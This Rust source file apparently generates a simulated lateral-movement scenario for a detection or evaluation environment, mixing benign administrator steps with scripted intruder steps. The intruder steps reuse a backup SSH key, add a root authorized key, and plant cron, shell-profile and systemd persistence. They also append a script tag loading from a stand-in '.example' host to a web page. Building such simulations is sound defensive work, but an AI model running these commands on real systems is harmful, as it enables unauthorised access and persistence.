// SPDX-License-Identifier: Apache-2.0
//! The intruder of `web-shell` finds the key by which a backup gets from the first host to a second one, logs in to that with
//! it, becomes root there and settles down, while the backup and the administrator go the same way in their own right. By the
//! seed either he hurries, both agents at his heels, or a person holds the first host's agent back until he is through, so that
//! the second one has to see for itself.

use super::persistence::{people, weakness};
use super::{Actor, Material, Names, Plan, Scenario, Step, pace, public_key, step, units, web_shell};
use crate::outside::{NEXT, TWIN};
use crate::random::Random;
use std::time::Duration;

pub(super) const SCENARIO: Scenario = Scenario {
    name: "lateral",
    about: "as `web-shell`, then on to a second host with a key that lay there; both found, undone, and nobody shut out",
    benign: false,
    plan,
};

/// Of the user `backup`, who has no password and no shell.
const KEY: &str = "/var/backups/.ssh/id_ed25519";
const BACKUP: u32 = 34;
const OPS: u32 = 1000;

const CLIENT: &str = "Host 10.66.0.*\n    StrictHostKeyChecking no\n    UserKnownHostsFile /dev/null\n    LogLevel ERROR\n    ConnectTimeout 5\n";

fn plan(random: &mut Random, material: Material<'_>) -> Plan {
    let mut plan = web_shell::plan(random, material);
    let unit = "backup-stock.service";
    let job = format!(
        "[Unit]\nDescription=The stock, on another host\n[Service]\nType=oneshot\nUser=backup\n\
         ExecStart=/bin/sh -c 'ssh -i {KEY} bob@{NEXT} \"cat >stock.txt\" </srv/shop/stock.txt'\n"
    );
    plan.planted.extend([
        ("/etc/ssh/ssh_config.d/hosts.conf".to_owned(), CLIENT.to_owned(), 0o644, 0),
        (format!("/etc/systemd/system/{unit}"), job, 0o644, 0),
    ]);
    plan.keys = vec![("backup", KEY.to_owned(), BACKUP), ("ops", "/home/ops/.ssh/id_ed25519".to_owned(), OPS)];
    plan.jobs = vec![unit.to_owned()];
    for title in ["the administrator looks after the next host", "the administrator writes down what he did there"] {
        let script = format!("ssh ops@{NEXT} 'echo {} >>done.txt && sudo systemctl is-active nginx'", random.word(8));
        let at = usize::try_from(random.below(plan.benign.len() as u64)).unwrap_or(0);
        let pause = Duration::from_millis(random.between(30, 450));
        plan.benign.insert(at, Step { pause, ..step(Actor::Ops, title, script, &[]) });
    }
    let goes_on = Step {
        technique: Some("T1021.004"),
        secrets: vec![KEY.to_owned()],
        goes_on: true,
        ..step(Actor::Intruder, "the intruder goes on to the next host", format!("ssh -i {KEY} bob@{NEXT}"), &[])
    };
    plan.held = random.below(2) == 0;
    let at = if plan.held { random.below(plan.attack_root.len() as u64 + 1) } else { 0 };
    plan.attack_root.insert(usize::try_from(at).unwrap_or(0), goes_on);
    if !plan.held {
        plan.attack_user.truncate(2);
    }
    plan.named = vec!["T1021.004"];
    plan.next = Some(Box::new(next(random)));
    plan
}

/// The second host: bob's account there takes in what is backed up.
fn next(random: &mut Random) -> Plan {
    let mut names = Names::new(random);
    let (weak, escalation) = weakness(random, &mut names, "bob");
    let mut units = units();
    let mut benign = people(random, &mut names, &mut units);
    random.shuffle(&mut benign);
    pace(&mut benign, random, 450);
    let (attack_user, attack_root) = intruder(random, &mut names);
    Plan {
        planted: vec![weak],
        decoys: true,
        record: Some(format!("/dev/shm/{}/record", random.word(8))),
        escalation,
        source: TWIN.to_string(),
        benign,
        attack_user,
        attack_root,
        named: vec!["T1098.004", "T1053.003", "T1546.004", "T1543.002", "T1491.002"],
        units,
        lets_in: vec![("bob", "backup")],
        from_before: true,
        ..Plan::default()
    }
}

/// What is done on the second host as bob, and what as root.
fn intruder(random: &mut Random, names: &mut Names) -> (Vec<Step>, Vec<Step>) {
    let foothold = |technique: &'static str, title: &str, script: String, paths: &[&str]| Step {
        technique: Some(technique),
        ..step(Actor::Intruder, title, script, paths)
    };
    let mut user =
        vec![foothold("T1033", "the intruder looks around", "id; uname -a; sudo -n -l; ls -la /home".to_owned(), &[])];
    let key = public_key(random, &names.take());
    let (job, program) = (names.take(), format!("/usr/local/lib/{}", names.take()));
    let (unit, stays) = (names.take(), format!("/usr/local/sbin/{}", names.take()));
    let file = format!("/etc/systemd/system/{unit}.service");
    let page = format!("/var/www/shop/{}.html", random.pick(&["index", "products", "about"]));
    let (word, profile) =
        (random.word(7), *random.pick(&["/root/.profile", "/root/.bashrc", "/etc/profile.d/locale.sh"]));
    let mut root = vec![
        foothold(
            "T1098.004",
            "the intruder adds a key to root's",
            format!("echo '{key}' >>/root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys"),
            &["/root/.ssh/authorized_keys"],
        ),
        foothold(
            "T1053.003",
            "the intruder adds a job to /etc/cron.d",
            format!(
                "printf '#!/bin/sh\\nexit 0\\n' >{program}; chmod 755 {program}; echo '*/7 * * * * root {program}' >/etc/cron.d/{job}"
            ),
            &[&program, &format!("/etc/cron.d/{job}")],
        ),
        foothold(
            "T1546.004",
            "the intruder has root's shells run something",
            format!("echo 'test -x {program} && {program}' >>{profile}"),
            &[profile],
        ),
        foothold(
            "T1543.002",
            "the intruder installs a service",
            format!(
                "printf '#!/bin/sh\\nwhile sleep 9; do :; done\\n' >{stays}; chmod 755 {stays}; \
                 printf '[Unit]\\nDescription={unit}\\n[Service]\\nExecStart={stays}\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' >{file}; \
                 systemctl daemon-reload; systemctl enable --now {unit}.service"
            ),
            &[&stays, &file, &format!("/etc/systemd/system/multi-user.target.wants/{unit}.service")],
        ),
        foothold(
            "T1491.002",
            "the intruder alters a web page",
            format!("echo '<script src=\"//{word}.example/a.js\"></script>' >>{page}"),
            &[&page],
        ),
    ];
    random.shuffle(&mut root);
    pace(&mut user, random, 300);
    pace(&mut root, random, 300);
    (user, root)
}
